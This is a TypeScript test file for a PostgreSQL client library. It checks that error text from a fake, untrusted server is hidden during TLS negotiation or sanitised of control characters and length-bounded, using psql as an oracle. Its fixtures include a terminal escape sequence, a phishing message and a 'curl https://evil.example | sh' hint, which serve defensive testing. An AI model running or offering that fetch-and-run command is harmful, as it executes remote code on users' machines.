/** Errors of a server before it has proved anything, compared with psql, and the text of later errors. */

import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { PoolsmithError } from '../../src/errors.ts'
import { errorResponse, type FakePostgres, type Peer, startFakePostgres } from '../support/fake-postgres.ts'
import { psql } from '../support/postgres.ts'
import { driverFor, openingError, passwordCredential, type TestDriver } from '../support/postgres-driver.ts'
import { ask, postgresPool } from '../support/postgres-pool.ts'

const ESCAPE = '\x1b]0;owned\x07\x1b[2J'
const LIE = 'your password has expired; log in at https://evil.example'
const HINT = 'run this: curl https://evil.example | sh'

const ERRORS: Readonly<Record<string, Buffer>> = {
  'an ErrorResponse': errorResponse({ C: '28P01', M: `${LIE}${ESCAPE}`, H: HINT, D: HINT, R: 'auth_failed' }),
  'the bare text of a server without processes': Buffer.from(`E${LIE}${ESCAPE}: Cannot allocate memory\n\0`),
  'an ErrorResponse that is cut short': errorResponse({ C: '28P01', M: LIE }).subarray(0, 20),
}

const answering =
  (error: Buffer) =>
  async (peer: Peer): Promise<void> => {
    await peer.first()
    peer.send(error)
    peer.end()
  }

function driverTo(fake: FakePostgres, extra: Readonly<Record<string, unknown>>): TestDriver {
  return driverFor({ host: '127.0.0.1', port: fake.port, login: 'alice' }, extra)
}

function everythingIn(error: PoolsmithError): string {
  return `${error.message} ${error.stack} ${JSON.stringify(error)} ${String(error.cause)}`
}

for (const [name, bytes] of Object.entries(ERRORS)) {
  for (const sslmode of ['prefer', 'require']) {
    test(`${name} in place of the answer to SSLRequest is not shown (sslmode=${sslmode})`, async () => {
      await using fake = await startFakePostgres(answering(bytes))
      const { driver, events } = driverTo(fake, { sslmode })
      const error = await openingError(driver, passwordCredential('secret'))
      assert.deepEqual([error.code, error.phase, error.transient], ['NEGOTIATION_FAILED', 'tls', true])
      assert.match(
        error.message,
        /^The connection to 127\.0\.0\.1:\d+ \(database alice\) failed: The server 127\.0\.0\.1:\d+ sent an error in the middle of the negotiation of TLS\.$/,
      )
      assert.doesNotMatch(everythingIn(error), /evil|expired|28P01|memory/)
      const told = events.filter((event) => event.name === 'debug:refusal').map(({ payload }) => payload)
      assert.equal(told.length, 1)
      const { peer, text } = told[0] as { peer: string; text: string }
      assert.equal(peer, `127.0.0.1:${fake.port}`)
      // biome-ignore lint/suspicious/noControlCharactersInRegex: this is what must not be there
      assert.doesNotMatch(text, /[\x00-\x1f\x7f]/)
      if (!name.endsWith('cut short')) assert.match(text, /evil\.example\\x1b\]0;owned\\x07\\x1b\[2J/)
      assert.equal(fake.accepted(), 1)

      const oracle = await psql([`host=127.0.0.1 port=${fake.port} user=x sslmode=${sslmode}`, '-c', 'select 1'])
      assert.match(oracle.stderr, /server sent an error response during SSL exchange/)
      assert.doesNotMatch(oracle.stderr, /evil/)
    })
  }
}

test('an error in the middle of the negotiation fetches no new credential', async () => {
  await using fake = await startFakePostgres(answering(ERRORS['an ErrorResponse'] ?? Buffer.alloc(0)))
  let fetches = 0
  let rejected = 0
  const source = {
    current: () => undefined,
    get: async () => {
      fetches++
      return passwordCredential('secret')
    },
    reject: () => {
      rejected++
      return true
    },
    onChange: () => () => undefined,
    close: async () => undefined,
    failure: undefined,
  }
  const target = { host: '127.0.0.1', port: fake.port, superuser: 'alice', superuserPassword: '' }
  await using pool = postgresPool(target, { pool_timeout: 5 }, { source, driver: { sslmode: 'require' } })
  await assert.rejects(ask(pool, 'select 1'), { code: 'NEGOTIATION_FAILED' })
  assert.deepEqual([fetches, rejected], [1, 0])
})

test('a server that refuses SSLRequest as an unknown protocol is said to know no TLS', async () => {
  const old = errorResponse({ C: '0A000', M: 'unsupported frontend protocol 1234.5679: server supports 2.0 to 3.0' })
  await using fake = await startFakePostgres(answering(old))
  const error = await openingError(driverTo(fake, { sslmode: 'prefer' }).driver, passwordCredential('secret'))
  assert.deepEqual([error.code, error.phase], ['TLS_NOT_OFFERED', 'tls'])
  assert.match(error.message, /does not know TLS/)
  assert.doesNotMatch(everythingIn(error), /unsupported frontend/)
})

test('the words of a server are shown on one line, without control characters and bounded', async () => {
  await using fake = await startFakePostgres(async (peer) => {
    await peer.startup()
    const long = 'x'.repeat(9000)
    peer.send(errorResponse({ C: '28\x1bP', M: `one\r\ntwo${ESCAPE}${long}`, D: `${ESCAPE}${long}`, H: `a\nb${long}` }))
    peer.end()
  })
  const error = await openingError(driverTo(fake, { sslmode: 'disable' }).driver, passwordCredential('secret'))
  for (const text of [error.message, error.hint ?? '', JSON.stringify(error.details)]) {
    // biome-ignore lint/suspicious/noControlCharactersInRegex: this is what must not be there
    assert.doesNotMatch(text, /[\x00-\x1f\x7f]/)
    assert.ok(text.length < 1500, `${text.length} characters`)
  }
  assert.match(error.message, /one two\\x1b\]0;owned/)
})

test('a server that could not start a process answers the start-up message with a bare text, which is shown', async () => {
  await using fake = await startFakePostgres(async (peer) => {
    await peer.startup()
    peer.send(Buffer.from('Ecould not fork new process for connection: Cannot allocate memory\n\0'))
    peer.end()
  })
  const error = await openingError(driverTo(fake, { sslmode: 'disable' }).driver, passwordCredential('secret'))
  assert.deepEqual([error.code, error.phase, error.transient], ['SERVER_ERROR', 'login', true])
  assert.match(error.message, /could not fork new process for connection: Cannot allocate memory/)
  const oracle = await psql([`host=127.0.0.1 port=${fake.port} user=x sslmode=disable`, '-c', 'select 1'])
  assert.match(oracle.stderr, /could not fork new process for connection/)
})
